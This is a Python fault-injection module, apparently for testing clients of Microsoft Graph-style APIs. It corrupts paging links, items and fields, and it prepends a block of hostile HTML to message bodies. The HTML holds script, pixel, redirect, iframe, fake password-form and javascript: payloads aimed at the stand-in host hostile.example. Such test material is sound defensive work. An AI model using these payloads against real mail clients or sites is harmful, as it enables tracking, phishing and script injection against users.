"""Answers with something wrong in them: links, items and the fields of items."""

import json
from collections.abc import Callable
from random import Random
from typing import Any
from urllib.parse import urlsplit, urlunsplit

from transom.demo.weather.sky import Weather

Item = dict[str, Any]
ELSEWHERE = "graph.elsewhere.example"
LINKS = ("next-loop", "next-missing", "next-elsewhere")
KINDS = (*LINKS, "duplicates", "vanishing", "lossy-delta", "odd-fields", "hostile-html")
HOSTILE = """<script>fetch('https://hostile.example/script')</script>
<img src="https://hostile.example/pixel.gif" width="1" height="1">
<img src=x onerror="location='https://hostile.example/onerror'">
<link rel="preconnect" href="https://hostile.example"><base href="https://hostile.example/">
<meta http-equiv="refresh" content="0;url=https://hostile.example/refresh">
<style>@import "https://hostile.example/a.css"; p { background: \\75rl(https://hostile.example/b) }
</style><iframe src="https://hostile.example/frame"></iframe>
<form action="https://hostile.example/form"><input name="password" autofocus></form>
<svg><a href="javascript:alert(1)"><text>Click</text></a></svg>
<a href="https://hostile.example/">https://contoso.example/</a><table><tr><td><div><p>"""


class Bender:
    """Bends the JSON of one answer; ``question`` is what its dice are thrown for."""

    def __init__(self, weather: Weather, path: str, url: str, question: str) -> None:
        self._weather, self._path, self._url, self._question = weather, path, url, question

    def is_wanted(self) -> bool:
        return any(self._weather.rate(name, self._path) for name in KINDS)

    def bend(self, body: bytes) -> bytes:
        """Return the answer with what the weather makes of it."""
        try:
            value = json.loads(body)
        except ValueError:
            return body
        if not isinstance(value, dict):
            return body
        if isinstance(value.get("responses"), list):
            for part in value["responses"]:
                if isinstance(part.get("body"), dict):
                    self._bend_answer(part["body"], str(part.get("id")))
        else:
            self._bend_answer(value, "")
        return json.dumps(value).encode()  # unlike others it lets half a surrogate pair pass

    def _bend_answer(self, value: Item, part: str) -> None:
        if isinstance(value.get("value"), list):
            items = [item for item in value["value"] if isinstance(item, dict)]
            if len(items) == len(value["value"]):
                value["value"] = self._bend_items(items, part)
            self._bend_link(value, part)
        elif "id" in value:
            self._bend_item(value, part)

    def _bend_link(self, value: Item, part: str) -> None:
        link = value.get("@odata.nextLink")
        question = f"{self._question}/{part}"
        name = self._weather.strikes_any(LINKS, self._path, question) if link else ""
        if name == "next-loop":
            value["@odata.nextLink"] = self._url
        elif name == "next-missing":
            del value["@odata.nextLink"]
        elif name == "next-elsewhere":
            value["@odata.nextLink"] = urlunsplit(urlsplit(str(link))._replace(netloc=ELSEWHERE))

    def _bend_items(self, items: list[Item], part: str) -> list[Item]:
        shown = []
        is_later = "skip" in self._question
        is_delta = "delta" in self._path
        for place, item in enumerate(items):
            question = f"{self._question}/{part}/{place}"
            if is_later and self._strikes("vanishing", question):
                continue
            if is_delta and self._strikes("lossy-delta", question):
                continue
            self._bend_item(item, f"{part}/{place}")
            shown.append(item)
            if self._strikes("duplicates", question):
                shown.append(item)
        return shown

    def _bend_item(self, item: Item, part: str) -> None:
        question = f"{self._question}/{part}"
        if "@removed" in item:
            return
        if self._strikes("odd-fields", question):
            make_odd(item, self._weather.dice("odd-fields", f"{question}/which"))
        if self._strikes("hostile-html", question):
            make_hostile(item)

    def _strikes(self, name: str, question: str) -> bool:
        return self._weather.strikes(name, self._path, question)


def make_hostile(item: Item) -> None:
    body = item.get("body")
    if isinstance(body, dict) and str(body.get("contentType")).lower() == "html":
        body["content"] = HOSTILE + str(body.get("content"))


def replace_by(name: str, value: object) -> Callable[[Item], None]:
    def change(item: Item) -> None:
        if name in item:
            item[name] = value

    return change


ODDITIES: tuple[Callable[[Item], None], ...] = (
    replace_by("subject", None),
    replace_by("subject", "Half a pair \ud83d and \udc00 the other"),
    replace_by("displayName", None),
    replace_by("displayName", "Half \udfff"),
    replace_by("receivedDateTime", "0001-01-01T00:00:00Z"),
    replace_by("receivedDateTime", None),
    replace_by("receivedDateTime", "2026-11-02T10:11:12.1234567Z"),
    replace_by("sentDateTime", "9999-12-31T23:59:59.9999999Z"),
    replace_by("lastModifiedDateTime", "0001-01-01T00:00:00Z"),
    replace_by("from", None),
    replace_by("from", {"emailAddress": None}),
    replace_by("sender", {}),
    replace_by("toRecipients", None),
    replace_by("toRecipients", [None]),
    replace_by("body", None),
    replace_by("bodyPreview", None),
    replace_by("categories", None),
    replace_by("flag", {"flagStatus": "someday"}),
    replace_by("importance", "unknownFutureValue"),
    replace_by("inferenceClassification", "undecided"),
    replace_by("isRead", None),
    replace_by("showAs", "unknownFutureValue"),
    replace_by("type", "unknownFutureValue"),
    replace_by("organizer", None),
    replace_by("attendees", None),
    replace_by("location", None),
    replace_by("start", None),
    replace_by("originalStartTimeZone", "tzone://Microsoft/Custom"),
    replace_by("emailAddresses", None),
    replace_by("birthday", "0001-01-01T00:00:00Z"),
    replace_by("totalItemCount", -1),
    replace_by("color", "ultraviolet"),
)


def make_odd(item: Item, dice: Random) -> None:
    """Change one to three fields that the item has, and add one that nobody knows."""
    for change in dice.sample(ODDITIES, len(ODDITIES))[: dice.randrange(3, 12)]:
        change(item)
    item["unheardOf"] = {"since": None}
